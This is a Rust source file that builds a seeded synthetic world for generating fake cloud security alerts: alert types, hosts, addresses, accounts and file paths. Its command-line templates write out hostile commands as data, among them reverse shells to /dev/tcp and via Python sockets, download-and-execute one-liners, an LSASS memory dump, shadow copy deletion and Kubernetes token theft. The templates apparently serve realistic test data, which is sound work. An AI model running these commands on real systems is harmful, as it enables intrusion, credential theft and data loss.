//! The fixed world both generators draw from: alert types, subscriptions, hosts, addresses,
//! accounts, command lines, files and resources. Built once from a fixed seed.

use std::sync::OnceLock;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The seed of the world itself; never changes, so every generator sees the same pools.
const WORLD_SEED: u64 = 0x005E_ED0F_A1E7;

/// A Defender plan family: decides entities, resources and extended properties of an alert.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub(crate) enum Family {
    Vm,
    K8s,
    Sql,
    Storage,
    Arm,
    KeyVault,
    Dns,
    AppServices,
}

impl Family {
    /// `productComponentName`.
    pub(crate) fn component(self) -> &'static str {
        match self {
            Family::Vm => "Servers",
            Family::K8s => "Containers",
            Family::Sql => "Databases",
            Family::Storage => "Storage",
            Family::Arm => "Arm",
            Family::KeyVault => "KeyVaults",
            Family::Dns => "Dns",
            Family::AppServices => "AppServices",
        }
    }

    /// The `resourceType` extended property.
    pub(crate) fn resource_type(self) -> &'static str {
        match self {
            Family::Vm => "Virtual Machine",
            Family::K8s => "Kubernetes Service",
            Family::Sql => "SQL Database",
            Family::Storage => "Storage Account",
            Family::Arm => "Subscription",
            Family::KeyVault => "Key Vault",
            Family::Dns => "DNS",
            Family::AppServices => "App Service",
        }
    }

    pub(crate) const ALL: [Family; 8] = [
        Family::Vm,
        Family::K8s,
        Family::Sql,
        Family::Storage,
        Family::Arm,
        Family::KeyVault,
        Family::Dns,
        Family::AppServices,
    ];

    /// The detections of this family (at least ten each).
    fn suffixes(self) -> &'static [&'static str] {
        match self {
            Family::Vm => &[
                "SuspiciousPowerShell",
                "EncodedCommandLine",
                "CredentialDumping",
                "ReverseShell",
                "CryptoMiner",
                "SuspiciousDownload",
                "ShadowCopyDeletion",
                "RegistryRunPersistence",
                "BruteForceSuccess",
                "EICAR",
                "LateralMovementWmi",
                "SuspiciousScheduledTask",
            ],
            Family::K8s => &[
                "PrivilegedContainer",
                "ImageBuildOnNode",
                "ExposedDashboard",
                "CryptoMiner",
                "SuspiciousExec",
                "ServiceAccountTokenRead",
                "ReverseShell",
                "SensitiveMount",
                "AnomalousSecretAccess",
                "NewClusterAdminBinding",
            ],
            Family::Sql => &[
                "BruteForce",
                "ShellExternalSourceAnomaly",
                "PotentialSqlInjection",
                "DataExfiltrationAnomaly",
                "LoginFromUnusualLocation",
                "LoginFromSuspiciousIP",
                "HarmfulApplication",
                "UnusualPrincipal",
                "VulnerabilityToSqlInjection",
                "DomainAnomaly",
            ],
            Family::Storage => &[
                "AnonymousAccessAnomaly",
                "MalwareHashReputation",
                "GeoAnomaly",
                "TorAnomaly",
                "DataExfiltration",
                "UnusualDeletion",
                "AccessInspectionAnomaly",
                "SasTokenAbuse",
                "PhishingContent",
                "UnusualAppAccess",
            ],
            Family::Arm => &[
                "AnomalousOperation",
                "MicroBurstToolkit",
                "PowerZureToolkit",
                "PrivilegeElevation",
                "AccessFromTor",
                "UnusualLocation",
                "ImpossibleTravel",
                "SuspiciousVMExtension",
                "MassResourceDeletion",
                "AdminPermissionGranted",
            ],
            Family::KeyVault => &[
                "ListGetAnomaly",
                "AccessFromTor",
                "UnusualApplication",
                "SuspiciousIPAccess",
                "HighVolumeOperations",
                "DepletedPermissions",
                "UnusualUserAccess",
                "PolicyChange",
                "SecretListAnomaly",
                "AppNotSeenBefore",
            ],
            Family::Dns => &[
                "DomainReconnaissance",
                "DataExfiltration",
                "MaliciousDomain",
                "CryptoMiningDomain",
                "DNSTunneling",
                "PhishingDomain",
                "DarkWebDomain",
                "RandomizedDomain",
                "AnonymityNetwork",
                "SuspiciousResolution",
            ],
            Family::AppServices => &[
                "PhishingContent",
                "WebShell",
                "SuspiciousUserAgent",
                "AnomalousPageAccess",
                "DanglingDomain",
                "PHPFileInUploadFolder",
                "CurlToDisk",
                "ProcessWithKnownMiner",
                "VulnerabilityScanner",
                "SuspiciousPowerShellCommand",
            ],
        }
    }
}

/// The thirty alert-type prefixes and their families.
const PREFIXES: [(&str, Family); 30] = [
    ("VM_", Family::Vm),
    ("VM.Windows_", Family::Vm),
    ("VM.Linux_", Family::Vm),
    ("Linux_", Family::Vm),
    ("Windows_", Family::Vm),
    ("K8S.NODE_", Family::K8s),
    ("K8S_", Family::K8s),
    ("K8S.CLUSTER_", Family::K8s),
    ("AKS_", Family::K8s),
    ("SQL.DB_", Family::Sql),
    ("SQL.VM_", Family::Sql),
    ("SQL.MI_", Family::Sql),
    ("SQL.DW_", Family::Sql),
    ("SQL.POSTGRES_", Family::Sql),
    ("SQL.MYSQL_", Family::Sql),
    ("SQL.MARIADB_", Family::Sql),
    ("CosmosDB_", Family::Sql),
    ("Storage.Blob_", Family::Storage),
    ("Storage.Files_", Family::Storage),
    ("Storage.AzureDataLake_", Family::Storage),
    ("ARM_", Family::Arm),
    ("ARM.MCAS_", Family::Arm),
    ("AzureResourceManager_", Family::Arm),
    ("KV_", Family::KeyVault),
    ("DNS_", Family::Dns),
    ("AzureDNS_", Family::Dns),
    ("Network_", Family::Dns),
    ("AppServices_", Family::AppServices),
    ("APIM_", Family::AppServices),
    ("AI.Azure_", Family::AppServices),
];

/// One alert type of the world.
#[derive(Clone, Debug)]
pub(crate) struct AlertType {
    pub(crate) name: String,
    pub(crate) display_name: String,
    pub(crate) family: Family,
}

/// One host: name, OS, the VM resource id.
#[derive(Clone, Debug)]
pub(crate) struct Host {
    pub(crate) name: String,
    pub(crate) windows: bool,
    pub(crate) resource_id: String,
}

/// A pool with Zipf-like draw weights (rank `k` has weight `1 / (k + 1)^s`).
#[derive(Clone, Debug)]
pub(crate) struct Zipf {
    cdf: Vec<f64>,
}

impl Zipf {
    pub(crate) fn new(n: usize, s: f64) -> Zipf {
        let mut total = 0.0;
        let cdf = (0..n.max(1))
            .map(|k| {
                total += 1.0 / ((k + 1) as f64).powf(s);
                total
            })
            .collect();
        Zipf { cdf }
    }

    /// A rank, `0..n`.
    pub(crate) fn sample(&self, rng: &mut impl Rng) -> usize {
        let total = self.cdf.last().copied().unwrap_or(1.0);
        let u = rng.random::<f64>() * total;
        self.cdf
            .partition_point(|&c| c <= u)
            .min(self.cdf.len() - 1)
    }
}

/// A pool of values with its draw distribution.
#[derive(Clone, Debug)]
pub(crate) struct Pool<T> {
    pub(crate) items: Vec<T>,
    zipf: Zipf,
}

impl<T> Pool<T> {
    fn new(items: Vec<T>, s: f64) -> Pool<T> {
        let zipf = Zipf::new(items.len(), s);
        Pool { items, zipf }
    }

    /// A skewed draw. Pools are never empty.
    pub(crate) fn draw(&self, rng: &mut impl Rng) -> &T {
        let i = self.zipf.sample(rng);
        &self.items[i.min(self.items.len().saturating_sub(1))]
    }
}

/// Everything the generators draw from.
#[derive(Debug)]
pub(crate) struct World {
    pub(crate) alert_types: Pool<AlertType>,
    pub(crate) subscriptions: Vec<String>,
    pub(crate) hosts: Pool<Host>,
    pub(crate) ips: Pool<String>,
    pub(crate) accounts: Pool<String>,
    pub(crate) command_lines: Pool<String>,
    /// `(name, directory)`.
    pub(crate) files: Pool<(String, String)>,
    /// Azure resources (ARM ids) per family, in [`Family::ALL`] order.
    pub(crate) resources: Vec<Pool<String>>,
    pub(crate) locations: Pool<&'static str>,
}

pub(crate) const ENVS: [&str; 5] = ["prod", "dev", "test", "stage", "qa"];
pub(crate) const ROLES: [&str; 10] = [
    "web", "api", "sql", "build", "jump", "dc", "k8s", "batch", "cache", "mq",
];
pub(crate) const RESOURCE_GROUPS: [&str; 12] = [
    "rg-prod-web",
    "rg-prod-data",
    "rg-prod-aks",
    "rg-prod-shared",
    "rg-dev-web",
    "rg-dev-data",
    "rg-dev-sandbox",
    "rg-test-web",
    "rg-test-ci",
    "rg-stage-web",
    "rg-qa-tools",
    "rg-security-ops",
];
pub(crate) const FIRST_NAMES: [&str; 20] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
    "nina", "oscar", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yuki",
];
pub(crate) const LAST_NAMES: [&str; 10] = [
    "smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "tanaka", "mueller", "nowak",
];
pub(crate) const SERVICE_ACCOUNTS: [&str; 12] = [
    "svc-backup",
    "svc-deploy",
    "svc-monitor",
    "svc-sql",
    "svc-build",
    "svc-etl",
    "azureuser",
    "root",
    "Administrator",
    "SYSTEM",
    "NETWORK SERVICE",
    "sqladmin",
];
/// File stems and extensions of the file pool.
pub(crate) const FILE_STEMS: [&str; 16] = [
    "invoice_2026",
    "payload",
    "update",
    "mimikatz",
    "procdump64",
    "svchost",
    "backup",
    "kworker",
    "xmrig",
    "install",
    "report_q1",
    "shell",
    "agent",
    "lsass",
    "config",
    "run",
];
pub(crate) const FILE_EXTS: [&str; 8] = [
    ".exe", ".ps1", ".dll", ".docm", ".sh", ".bat", ".php", ".dmp",
];
pub(crate) const WINDOWS_DIRS: [&str; 6] = [
    "C:\\Windows\\Temp",
    "C:\\ProgramData",
    "C:\\Users\\Public\\Downloads",
    "C:\\Windows\\System32",
    "C:\\inetpub\\wwwroot\\uploads",
    "C:\\Users\\alice\\AppData\\Local\\Temp",
];
pub(crate) const LINUX_DIRS: [&str; 6] = [
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/usr/local/bin",
    "/var/www/html/uploads",
    "/home/azureuser/.cache",
];
/// Public /16 prefixes of the address pool (cloud and hosting ranges).
pub(crate) const PUBLIC_PREFIXES: [&str; 10] = [
    "20.42", "52.164", "104.215", "40.76", "13.77", "185.220", "45.155", "91.240", "193.142",
    "23.129",
];
/// Internal /16 prefixes of the address pool.
pub(crate) const INTERNAL_PREFIXES: [&str; 6] =
    ["10.0", "10.1", "10.2", "10.3", "172.16", "192.168"];
const LOCATIONS: [&str; 10] = [
    "Amsterdam, Netherlands",
    "Dublin, Ireland",
    "Virginia, United States",
    "Frankfurt, Germany",
    "Singapore, Singapore",
    "Moscow, Russia",
    "Sao Paulo, Brazil",
    "Tokyo, Japan",
    "Lagos, Nigeria",
    "Unknown",
];

fn guid(rng: &mut impl Rng) -> String {
    let a: u32 = rng.random();
    let b: u16 = rng.random();
    let c: u16 = rng.random();
    let d: u16 = rng.random();
    let e: u64 = rng.random::<u64>() & 0xFFFF_FFFF_FFFF;
    format!("{a:08x}-{b:04x}-{c:04x}-{d:04x}-{e:012x}")
}

fn base64ish(rng: &mut impl Rng, len: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..len)
        .map(|_| char::from(ALPHABET[rng.random_range(0..ALPHABET.len())]))
        .collect()
}

/// Splits a CamelCase detection name into words: `SuspiciousPowerShell` → `Suspicious Power Shell`.
fn words(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    let mut prev_lower = false;
    for c in s.chars() {
        if c.is_ascii_uppercase() && prev_lower {
            out.push(' ');
        }
        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        out.push(c);
    }
    out
}

/// A host name of the regular scheme `env-role-NN`.
pub(crate) fn host_name(env: &str, role: &str, n: u32) -> String {
    format!("{env}-{role}-{n:02}")
}

/// Builds a command line from a template, with values from the world.
fn command_line(rng: &mut impl Rng, ips: &[String], hosts: &[Host], accounts: &[String]) -> String {
    const TEMPLATES: [&str; 22] = [
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {b64}",
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{file}.ps1')\"",
        "cmd.exe /c whoami /all > C:\\Windows\\Temp\\{file}.txt",
        "cmd.exe /c net user {user} /domain && net group \"Domain Admins\" /domain",
        "/bin/bash -c curl -fsSL http://{ip}:{port}/{file}.sh | bash",
        "curl -s -o /tmp/{file} http://{ip}/{file} && chmod +x /tmp/{file} && /tmp/{file}",
        "wget -q http://{ip}:{port}/{file} -O- | sh",
        "certutil.exe -urlcache -split -f http://{ip}/{file}.exe C:\\Users\\Public\\Downloads\\{file}.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} C:\\Windows\\Temp\\lsass.dmp full",
        "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {file} /t REG_SZ /d C:\\ProgramData\\{file}.exe",
        "schtasks.exe /create /tn {file} /tr \"C:\\ProgramData\\{file}.exe\" /sc minute /mo 5 /ru SYSTEM",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0)'",
        "sudo nmap -sS -Pn -p 1-65535 --open {ip} -oN /tmp/{file}.txt",
        "kubectl exec -it {file}-7d9f8 -n default -- /bin/sh -c \"cat /var/run/secrets/kubernetes.io/serviceaccount/token\"",
        "az storage blob download --account-name stprod{file} --container-name backups --name {file}.bak --file /tmp/{file}.bak",
        "/usr/bin/xmrig -o stratum+tcp://{ip}:3333 -u {b64} -p x --donate-level=1 --cpu-max-threads-hint=75",
        "sqlcmd -S {host} -U sa -P ******** -Q \"SELECT name FROM sys.databases; EXEC xp_cmdshell 'whoami'\"",
        "vssadmin.exe delete shadows /all /quiet",
        "wmic.exe /node:{ip} process call create \"cmd.exe /c C:\\ProgramData\\{file}.bat\"",
        "ssh -o StrictHostKeyChecking=no {user}@{ip} 'uname -a; id; cat /etc/passwd'",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\ProgramData\\{file}.ps1 -Target {host}",
        "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    ];
    let t = TEMPLATES[rng.random_range(0..TEMPLATES.len())];
    let ip = &ips[rng.random_range(0..ips.len())];
    let host = &hosts[rng.random_range(0..hosts.len())].name;
    let user = &accounts[rng.random_range(0..accounts.len())];
    let file = FILE_STEMS[rng.random_range(0..FILE_STEMS.len())];
    let b64_len = rng.random_range(24..96);
    let mut s = t
        .replace("{ip}", ip)
        .replace("{host}", host)
        .replace("{user}", user)
        .replace("{file}", file)
        .replace("{port}", &rng.random_range(1024..65535u32).to_string())
        .replace("{pid}", &rng.random_range(400..9000u32).to_string())
        .replace("{b64}", &base64ish(rng, b64_len));
    // Keep 40–200 characters, as real command lines in alerts.
    while s.len() < 40 {
        s.push_str(" -Verbose");
    }
    if s.len() > 200 {
        let mut end = 200;
        while !s.is_char_boundary(end) {
            end -= 1;
        }
        s.truncate(end);
    }
    s
}

fn build() -> World {
    let mut rng = StdRng::seed_from_u64(WORLD_SEED);

    // Alert types: 30 prefixes × 10 detections of their family, shuffled so that Zipf rank
    // does not follow the alphabet or the family.
    let mut types = Vec::with_capacity(300);
    for (prefix, family) in PREFIXES {
        let suffixes = family.suffixes();
        let offset = rng.random_range(0..suffixes.len());
        for i in 0..10 {
            let suffix = suffixes[(offset + i) % suffixes.len()];
            types.push(AlertType {
                name: format!("{prefix}{suffix}"),
                display_name: format!(
                    "{} ({})",
                    words(suffix),
                    prefix.trim_end_matches('_').replace('.', " ")
                ),
                family,
            });
        }
    }
    shuffle(&mut types, &mut rng);

    let subscriptions: Vec<String> = (0..4).map(|_| guid(&mut rng)).collect();
    let arm_prefix = |rng: &mut StdRng, subs: &[String]| {
        let sub = &subs[rng.random_range(0..subs.len())];
        let rg = RESOURCE_GROUPS[rng.random_range(0..RESOURCE_GROUPS.len())];
        // ARM ids in alerts are not consistently cased.
        if rng.random_bool(0.15) {
            format!("/subscriptions/{sub}/resourcegroups/{rg}")
        } else {
            format!("/subscriptions/{sub}/resourceGroups/{rg}")
        }
    };

    // Hosts: env-role-NN, NN in 1..=6 (300 hosts), plus a few workstation and AKS node names.
    let mut hosts = Vec::new();
    for env in ENVS {
        for role in ROLES {
            for n in 1..=6 {
                let name = host_name(env, role, n);
                let windows = matches!(role, "dc" | "jump" | "sql") || rng.random_bool(0.3);
                let prefix = arm_prefix(&mut rng, &subscriptions);
                let resource_id =
                    format!("{prefix}/providers/Microsoft.Compute/virtualMachines/{name}");
                hosts.push(Host {
                    name,
                    windows,
                    resource_id,
                });
            }
        }
    }
    for i in 0..20 {
        let name = if i % 2 == 0 {
            format!(
                "DESKTOP-{}",
                base64ish(&mut rng, 7)
                    .to_ascii_uppercase()
                    .replace(['+', '/'], "Q")
            )
        } else {
            format!(
                "aks-nodepool1-{:08}-vmss{:06}",
                rng.random_range(10_000_000..99_999_999u32),
                i
            )
        };
        let prefix = arm_prefix(&mut rng, &subscriptions);
        let resource_id = format!("{prefix}/providers/Microsoft.Compute/virtualMachines/{name}");
        hosts.push(Host {
            windows: i % 2 == 0,
            name,
            resource_id,
        });
    }
    shuffle(&mut hosts, &mut rng);

    // Addresses: about 600, mostly IPv4 (internal and public), some IPv6.
    let mut ips = Vec::new();
    let mut seen = std::collections::HashSet::new();
    while ips.len() < 600 {
        let ip = if rng.random_bool(0.08) {
            match rng.random_range(0..3) {
                0 => format!(
                    "2603:1030:{:x}:{:x}::{:x}",
                    rng.random_range(0..0x40u32),
                    rng.random_range(0..0x100u32),
                    rng.random_range(1..0xffffu32)
                ),
                1 => format!(
                    "2a01:111:f400:{:x}::{:x}",
                    rng.random_range(0..0x100u32),
                    rng.random_range(1..0xffffu32)
                ),
                _ => format!(
                    "fe80::{:x}:{:x}:{:x}:{:x}",
                    rng.random_range(0..0xffffu32),
                    rng.random_range(0..0xffffu32),
                    rng.random_range(0..0xffffu32),
                    rng.random_range(1..0xffffu32)
                ),
            }
        } else if rng.random_bool(0.55) {
            let p = INTERNAL_PREFIXES[rng.random_range(0..INTERNAL_PREFIXES.len())];
            format!(
                "{p}.{}.{}",
                rng.random_range(0..8u32),
                rng.random_range(1..255u32)
            )
        } else {
            let p = PUBLIC_PREFIXES[rng.random_range(0..PUBLIC_PREFIXES.len())];
            format!(
                "{p}.{}.{}",
                rng.random_range(0..256u32),
                rng.random_range(1..255u32)
            )
        };
        if seen.insert(ip.clone()) {
            ips.push(ip);
        }
    }

    // Accounts: people (first.last, some domain-qualified) and service accounts.
    let mut accounts: Vec<String> = SERVICE_ACCOUNTS.iter().map(|s| (*s).to_owned()).collect();
    for first in FIRST_NAMES {
        for last in LAST_NAMES {
            if rng.random_bool(0.5) {
                let name = match rng.random_range(0..4) {
                    0 => format!("CONTOSO\\{first}.{last}"),
                    1 => format!("{first}.{last}@contoso.com"),
                    _ => format!("{first}.{last}"),
                };
                accounts.push(name);
            }
        }
    }
    shuffle(&mut accounts, &mut rng);

    let command_lines: Vec<String> = (0..400)
        .map(|_| command_line(&mut rng, &ips, &hosts, &accounts))
        .collect();

    let mut files = Vec::new();
    for stem in FILE_STEMS {
        for ext in FILE_EXTS {
            if rng.random_bool(0.6) {
                let windows = matches!(ext, ".exe" | ".ps1" | ".dll" | ".docm" | ".bat" | ".dmp");
                let dir = if windows {
                    WINDOWS_DIRS[rng.random_range(0..WINDOWS_DIRS.len())]
                } else {
                    LINUX_DIRS[rng.random_range(0..LINUX_DIRS.len())]
                };
                files.push((format!("{stem}{ext}"), dir.to_owned()));
            }
        }
    }
    shuffle(&mut files, &mut rng);

    let words_pool = [
        "orders", "billing", "portal", "events", "logs", "images", "crm", "hr", "payroll", "iot",
    ];
    let mut resources = Vec::new();
    for family in Family::ALL {
        let mut pool = Vec::new();
        for i in 0..40u32 {
            let prefix = arm_prefix(&mut rng, &subscriptions);
            let env = ENVS[rng.random_range(0..ENVS.len())];
            let word = words_pool[rng.random_range(0..words_pool.len())];
            let id = match family {
                Family::Vm => hosts[(i as usize * 7) % hosts.len()].resource_id.clone(),
                Family::K8s => format!(
                    "{prefix}/providers/Microsoft.ContainerService/managedClusters/aks-{env}-{i:02}"
                ),
                Family::Sql => format!(
                    "{prefix}/providers/Microsoft.Sql/servers/sql-{env}-{i:02}/databases/{word}"
                ),
                Family::Storage => format!(
                    "{prefix}/providers/Microsoft.Storage/storageAccounts/st{env}{word}{i:02}"
                ),
                Family::Arm => format!(
                    "/subscriptions/{}",
                    subscriptions[i as usize % subscriptions.len()]
                ),
                Family::KeyVault => {
                    format!("{prefix}/providers/Microsoft.KeyVault/vaults/kv-{env}-{word}")
                }
                Family::Dns => format!(
                    "{prefix}/providers/Microsoft.Network/dnszones/{word}.{env}.contoso.com"
                ),
                Family::AppServices => {
                    format!("{prefix}/providers/Microsoft.Web/sites/app-{env}-{word}-{i:02}")
                }
            };
            pool.push(id);
        }
        resources.push(Pool::new(pool, 1.0));
    }

    World {
        alert_types: Pool::new(types, 1.0),
        subscriptions,
        hosts: Pool::new(hosts, 1.0),
        ips: Pool::new(ips, 1.0),
        accounts: Pool::new(accounts, 1.0),
        command_lines: Pool::new(command_lines, 0.9),
        files: Pool::new(files, 1.0),
        resources,
        locations: Pool::new(LOCATIONS.to_vec(), 1.0),
    }
}

/// Fisher–Yates with the world's generator (portable, unlike relying on a library shuffle's
/// algorithm staying the same).
fn shuffle<T>(v: &mut [T], rng: &mut impl Rng) {
    for i in (1..v.len()).rev() {
        let j = rng.random_range(0..=i);
        v.swap(i, j);
    }
}

/// The world, built on first use.
pub(crate) fn world() -> &'static World {
    static WORLD: OnceLock<World> = OnceLock::new();
    WORLD.get_or_init(build)
}

impl World {
    /// The resource pool of a family.
    pub(crate) fn resources_of(&self, family: Family) -> &Pool<String> {
        let i = Family::ALL.iter().position(|f| *f == family).unwrap_or(0);
        &self.resources[i]
    }
}
